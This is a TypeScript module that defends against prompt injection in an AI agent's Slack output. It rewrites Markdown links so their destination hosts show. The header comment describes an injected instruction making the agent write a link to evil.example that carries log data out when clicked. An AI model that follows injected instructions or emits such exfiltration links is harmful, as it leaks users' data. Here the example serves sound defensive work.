/**
 * Where a link in agent output goes must be visible (DESIGN "Thread context is quoted data").
 * Agent output is untrusted (log lines and thread messages reach the agent), so an injected
 * instruction can make the agent write `[docs](https://evil.example/?q=<log data>)`: one click
 * would carry the data away. Slack's `markdown` block shows only the label, so:
 *
 * - a link labelled with words shows its host inside the label, and stays clickable:
 *   `[docs](https://x.example/a?q=1)` → `[docs (x.example)](https://x.example/a?q=1)`, read as
 *   "docs (x.example)". Inside the label, the host cannot be split from the link into another
 *   message, and the plain-text fallback (which keeps labels) shows it too;
 * - a label that reads as another address (`[https://good.example](https://evil.example)`, a
 *   disguise) and a target that is not a web address (`mailto:`, `javascript:`, relative) are
 *   unlinked: `label (target)`, both in plain sight;
 * - a link whose label is its own address, or names its own host, stays as it is;
 * - a reference definition (`[1]: https://…`) is escaped, so no `[docs][1]` can become a link
 *   that skips these rules; its address stays visible as text.
 * Images (`![alt](src)`) follow the same rules: Slack's markdown block shows them as links.
 */

/** `[label](target)`, `[label](<target>)`, `[label](target "title")`; one level of brackets in the label. */
const MARKDOWN_LINK =
  /(!?)\[((?:[^[\]\n]|\[[^[\]\n]*\])+)\]\(\s*(<[^<>\n]*>|[^\s()<>]+(?:\([^\s()]*\)[^\s()<>]*)*)(\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?\s*\)/g;

/**
 * A CommonMark link reference definition whose destination has a scheme or starts with `www.`
 * or `//` (`[1]: https://…`): up to three spaces, `[label]:`, the destination. A log line such
 * as `[INFO]: started` is not one.
 */
const REFERENCE_DEFINITION =
  /^( {0,3})\[((?:[^[\]\n]|\\[[\]])+)\]:(?=[ \t]*<?(?:[a-z][a-z0-9+.-]*:|www\.|\/\/))/gim;

/** A scheme URL, `www.`-something, or a dotted host name ending in a letters-only TLD (with an optional path). */
const ADDRESS_LIKE =
  /^(?:[a-z][a-z0-9+.-]*:\/\/\S+|www\.\S+|(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}(?::\d+)?(?:[/?#]\S*)?|mailto:\S+)$/i;

/** The label as a reader sees it: emphasis, code marks and surrounding `<>` taken off. */
function bareLabel(label: string): string {
  return label
    .trim()
    .replace(/^[*_~`]+|[*_~`]+$/g, '')
    .replace(/^<(.*)>$/, '$1')
    .trim();
}

/** The host an address names (lower case, no `www.`), or undefined when it names none. */
export function hostOf(address: string): string | undefined {
  const withScheme = /^[a-z][a-z0-9+.-]*:/i.test(address) ? address : `https://${address}`;
  try {
    const host = new URL(withScheme).hostname.toLowerCase().replace(/^www\./, '');
    return host === '' ? undefined : host;
  } catch {
    return undefined;
  }
}

/** The host to show for a web address (`http:`/`https:` with a host), as the browser will reach it. */
function webHost(target: string): string | undefined {
  if (!/^https?:\/\//i.test(target)) return undefined;
  try {
    // `host` keeps a non-default port; an internationalised name shows as punycode (no look-alikes).
    const host = new URL(target).host.toLowerCase();
    return host === '' ? undefined : host;
  } catch {
    return undefined;
  }
}

/** True when `label` reads as an address of another host than `target` (or target has none). */
export function isDisguised(label: string, target: string): boolean {
  const shown = bareLabel(label);
  if (!ADDRESS_LIKE.test(shown)) return false;
  const shownHost = shown.toLowerCase().startsWith('mailto:') ? shown.toLowerCase() : hostOf(shown);
  const targetHost = target.toLowerCase().startsWith('mailto:') ? target.toLowerCase() : hostOf(target);
  return shownHost === undefined || targetHost === undefined || shownHost !== targetHost;
}

/** The label is the target, or the target without its scheme (`a@b.example` for `mailto:a@b.example`). */
function isOwnAddress(label: string, target: string): boolean {
  const shown = bareLabel(label).replace(/\/$/, '').toLowerCase();
  const address = target.replace(/\/$/, '').toLowerCase();
  return shown === address || shown === address.replace(/^(?:https?:\/\/|mailto:|tel:)/, '');
}

/** True when some word of the label is an address on the target's own host ("docs (x.example)"). */
function labelNamesHost(label: string, target: string): boolean {
  const targetHost = hostOf(target);
  if (targetHost === undefined) return false;
  return label
    .split(/\s+/)
    .map((word) => word.replace(/^[^a-z0-9]+|[^a-z0-9/]+$/gi, ''))
    .some((word) => ADDRESS_LIKE.test(word) && hostOf(word) === targetHost);
}

type Rewrite = (link: string, bang: string, label: string, target: string, title: string) => string;

function rewriteLinks(text: string, rewrite: Rewrite): string {
  return text.replace(
    MARKDOWN_LINK,
    (link: string, bang: string, label: string, rawTarget: string, title: string | undefined) =>
      rewrite(link, bang, label, rawTarget.replace(/^<|>$/g, ''), title ?? ''),
  );
}

/** Rewrites every disguised Markdown link in prose (not code) as `label (target)`. Images stay. */
export function revealDisguisedLinks(text: string): string {
  return rewriteLinks(text, (link, bang, label, target) =>
    !bang && isDisguised(label, target) ? `${label} (${target})` : link,
  );
}

/**
 * Every Markdown link in prose (not code) made to show where it goes, as the module comment
 * says. Applying it twice changes nothing more.
 */
export function showLinkHosts(text: string): string {
  const linked = rewriteLinks(text, (link, bang, label, target, title) => {
    if (isOwnAddress(label, target)) return link;
    if (isDisguised(label, target)) return `${label} (${target})`;
    if (ADDRESS_LIKE.test(bareLabel(label))) return link; // its own address, or its own host
    const host = webHost(target);
    if (host === undefined) return `${label} (${target})`;
    if (labelNamesHost(label, target)) return link;
    return `${bang}[${label} (${host})](${target.includes(' ') ? `<${target}>` : target}${title})`;
  });
  return linked.replace(REFERENCE_DEFINITION, (_definition, indent: string, label: string) => {
    return `${indent}\\[${label}]:`;
  });
}
